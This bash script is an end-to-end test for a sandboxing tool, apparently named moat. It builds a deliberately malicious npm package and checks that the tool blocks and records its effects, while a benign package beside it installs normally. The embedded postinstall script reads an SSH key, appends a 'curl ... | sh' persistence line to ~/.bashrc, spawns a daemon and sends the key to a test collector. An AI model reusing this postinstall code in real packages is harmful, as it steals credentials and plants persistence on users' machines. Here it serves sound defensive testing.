#!/usr/bin/env bash
# watch e2e: a scripted malicious install. A local npm package whose postinstall reads ~/.ssh,
# writes ~/.bashrc, connects to a forbidden test host and starts a daemon is installed with the
# real npm under `moat run`. Checked from outside: the collector (a test host in a network
# namespace this script creates, 10.77.X.0/24) received nothing, the host's ~/.bashrc is
# unchanged, no daemon survived. Checked in the account: the events carry the package as origin
# and the summary names all four. An honest package beside it installs, works, and is refused
# nothing. Needs root (network namespace, the eBPF watch). Usage: malicious_install.sh MOAT
set -euo pipefail
moat=$(realpath "$1")
. "$(dirname "$(realpath "$0")")/e2e_lib.sh"
command -v npm >/dev/null || skip "npm is not installed"

# --- a collector on a test host in a namespace of our own --------------------------------------
work=$(mktemp -d /tmp/moat-e2e-mal-XXXXXX)
collector_log="$work/collector.log"
daemon_mark="moat-daemon-$$-$RANDOM"
cleanup() {
  testnet_cleanup
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
testnet_up 30 39 || skip "no free 10.77.X.0/24 (X in 30-39) for the test host"
ns="$TESTNET_NS"
x="${TESTNET_PREFIX##*.}"
collector="$TESTNET_HOST"
: > "$collector_log"
collector_serve "$ns" 4444 "$collector_log"
collector_check "$collector" 4444 "$collector_log"

# --- the packages -----------------------------------------------------------------------------
home="$work/home"
mkdir -p "$home/.ssh" "$work/pkgs/evil" "$work/pkgs/good" "$work/project"
echo "MOAT-SSH-CANARY-$$" > "$home/.ssh/id_rsa"
echo "# the user's bashrc" > "$home/.bashrc"
bashrc_before=$(sha256sum "$home/.bashrc")
cat > "$work/pkgs/evil/package.json" <<JSON
{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
JSON
cat > "$work/pkgs/evil/postinstall.js" <<JS
const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
let key = '';
try { key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); } catch (e) {}
try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector:4444/x | sh\n'); } catch (e) {}
const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
d.unref();
const s = net.connect(4444, '$collector', () => { s.end('STOLEN ' + key); });
s.on('error', () => {});
setTimeout(() => process.exit(0), 1500);
JS
cat > "$work/pkgs/good/package.json" <<'JSON'
{"name":"good-pkg","version":"2.0.0","main":"index.js","scripts":{"postinstall":"node build.js"}}
JSON
echo "module.exports = () => require('./built.json').ok;" > "$work/pkgs/good/index.js"
echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
  > "$work/pkgs/good/build.js"
(cd "$work/pkgs/evil" && npm pack --silent >/dev/null) && (cd "$work/pkgs/good" && npm pack --silent >/dev/null)
evil_tgz="$work/pkgs/evil/evil-pkg-1.0.0.tgz"
good_tgz="$work/pkgs/good/good-pkg-2.0.0.tgz"
[ -f "$evil_tgz" ] && [ -f "$good_tgz" ] || { echo "FAIL: npm pack"; exit 1; }
cp "$evil_tgz" "$good_tgz" "$work/project/"
cd "$work/project"
echo '{"name":"victim","version":"1.0.0","private":true}' > package.json
npm_args=(install --offline --no-audit --no-fund --no-update-notifier --foreground-scripts)

# --- the honest install alone: it works and nothing is refused ---------------------------------
HOME="$home" "$moat" run --net allowlist --allow-host "10.77.$x.9:1" --audit "$work/good.jsonl" -- \
  npm "${npm_args[@]}" ./good-pkg-2.0.0.tgz >"$work/good.out" 2>"$work/good.err" ||
  { cat "$work/good.err"; fail "honest install failed"; }
node -e "process.exit(require('$work/project/node_modules/good-pkg')() ? 0 : 1)" ||
  fail "the honest package does not work after the install"
grep -q '"verdict":"refused"' "$work/good.jsonl" && fail "the honest install was refused something: $(grep refused "$work/good.jsonl" | head -3)"
grep -q "^moat: refused" "$work/good.err" && fail "the honest install's summary lists refusals"

# --- the malicious install ---------------------------------------------------------------------
HOME="$home" "$moat" run --net allowlist --allow-host "10.77.$x.9:1" --audit "$work/evil.jsonl" -- \
  npm "${npm_args[@]}" ./evil-pkg-1.0.0.tgz >"$work/evil.out" 2>"$work/evil.err" || true
sleep 0.5
summary=$(cat "$work/evil.err")

# From outside.
[ -s "$collector_log" ] && fail "the collector received: $(head -c 300 "$collector_log")"
[ "$(sha256sum "$home/.bashrc")" = "$bashrc_before" ] || fail "the host's ~/.bashrc changed"
pgrep -f "$daemon_mark" >/dev/null && fail "the daemon survived moat"
grep -q "MOAT-SSH-CANARY" "$work/evil.out" "$work/evil.err" "$work/evil.jsonl" && fail "the ssh key leaked into the output"

# In the account: each effect is an event with the package as origin, marked as an installed
# package's code (its script started under node_modules) in every source (watch, gate, reaper) ...
origin='"origin":{"dependency":true,"package":"evil-pkg","script":"postinstall","tool":"npm","version":"1.0.0"}'
has_event() { grep "\"kind\":\"$1\"" "$work/evil.jsonl" | grep -F "$origin" | grep -qF "$2"; }
has_event connect "$collector" || fail "no connect event with the origin for $collector"
has_event kill-at-exit "$daemon_mark" || fail "no kill-at-exit event with the origin for the daemon"
grep -F "$origin" "$work/evil.jsonl" | grep -qF "/.bashrc" || fail "no event with the origin for ~/.bashrc"
grep -F "$origin" "$work/evil.jsonl" | grep -qF "/.ssh" || fail "no event with the origin for ~/.ssh"
# ... and the summary names all four, with the package.
printf "%s\n" "$summary" | grep "persistence-attempt" | grep -q ".bashrc" || fail "no persistence-attempt finding for ~/.bashrc"
for what in "$collector:4444" ".bashrc" ".ssh" "$daemon_mark"; do
  printf '%s\n' "$summary" | grep -F "$what" | grep -qF "evil-pkg" ||
    fail "the summary does not name '$what' with evil-pkg"
done
if [ "$failures" -gt 0 ]; then
  echo "--- summary:"; printf '%s\n' "$summary"; echo "--- events:"; head -c 4000 "$work/evil.jsonl"
  echo "0 passed, 1 failed"; exit 1
fi
echo "1 passed, 0 failed"
